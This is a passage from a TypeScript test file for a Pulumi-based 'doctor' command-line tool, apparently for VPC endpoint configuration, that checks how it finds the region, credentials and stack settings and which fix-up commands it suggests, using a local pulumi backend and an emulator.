      assert.deepEqual(missing.settings["region"], { value: "eu-de", origin: "HW_REGION_NAME" });
    });

    it("that it knows of, when nothing is found without: that the option exists", async () => {
      const inside = join(project, "infra");
      mkdirSync(inside);
      const found = await told({ HW_REGION_NAME: "" }, [id], { cwd: inside });
      assert.deepEqual([found.unreadStack, found.next], ["dev", [`pulumi-vpcep doctor ${id} --stack dev`]]);
      const { stdout } = await doctor({}, [], { cwd: project });
      assert.match(
        stdout,
        /\n\nHere is a Pulumi project: with --stack dev, its configuration is used, too\.\n$/,
      );
      writeFileSync(join(project, "Pulumi.prod.yaml"), "config: {}\n");
      assert.equal((await told({}, [], { cwd: project })).unreadStack, "NAME");
    });

    it(`with the real pulumi${cli ? "" : ", skipped: no pulumi on PATH"}`, async function () {
      if (!cli) {
        this.skip();
      }
      const environment = {
        PULUMI_BACKEND_URL: `file://${project}`,
        PULUMI_CONFIG_PASSPHRASE: "x",
        HW_REGION_NAME: "",
        ...withoutKeys,
      };
      const pulumi = (...args: readonly string[]) =>
        execFileSync(cli, args, { cwd: project, env: { ...process.env, ...environment }, stdio: "ignore" });
      pulumi("stack", "init", "dev");
      pulumi("config", "set", "vpcep:region", "eu-de");
      pulumi("config", "set", "vpcep:accessKey", key.accessKey);
      pulumi("config", "set", "--secret", "vpcep:secretKey", key.secretKey);
      const ofAccount = (member: string, value: string, ...options: readonly string[]) =>
        pulumi("config", "set", "--path", ...options, `vpcep:accounts["a.b"].${member}`, value);
      ofAccount("region", "eu-de");
      ofAccount("accessKey", key.accessKey, "--secret");
      ofAccount("secretKey", key.secretKey, "--secret");
      ofAccount("endpoint", emulator.url);
      ofAccount("projectId", "0123456789abcdef");
      ofAccount("authUrl", emulator.url);
      const found = await told(environment, ["--stack", "dev"], { cwd: project });
      assert.equal(found.ok, true, found.message);
      assert.deepEqual(found.settings["region"], { value: "eu-de", origin: "vpcep:region" });
      const account = await doctor(environment, ["--stack", "dev", "--account", "a.b"], { cwd: project });
      assert.match(account.stdout, /^ {4}region +eu-de \(vpcep:accounts\["a\.b"\]\.region\)$/m);
      const next = `pulumi config set 'vpcep:accounts["a.b"].projectId' ${projectId} --path --stack dev`;
      assert.ok(account.stdout.endsWith(`\nType next:\n  ${next}\n`), account.stdout);
      pulumi(...next.replaceAll("'", "").split(" ").slice(1));
      assert.equal(
        (await told(environment, ["--stack", "dev", "--account", "a.b"], { cwd: project })).ok,
        true,
      );
      const sealed = { ...environment, PULUMI_CONFIG_PASSPHRASE: "wrong" };
      assert.deepEqual((await told(sealed, ["--stack", "dev"], { cwd: project })).next, [
        "export PULUMI_CONFIG_PASSPHRASE=...",
      ]);
      const other = await told(environment, ["--stack", "prod"], { cwd: project });
      assert.deepEqual(other.next, ["pulumi stack ls"]);
      assert.match(
        other.message ?? "",
        /^`pulumi config --stack prod` has failed: no stack named 'prod' found/,
      );
    });
  });
});

/** The port that a server listens at. */
async function listening(server: Server): Promise<number> {
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  return (server.address() as AddressInfo).port;
}
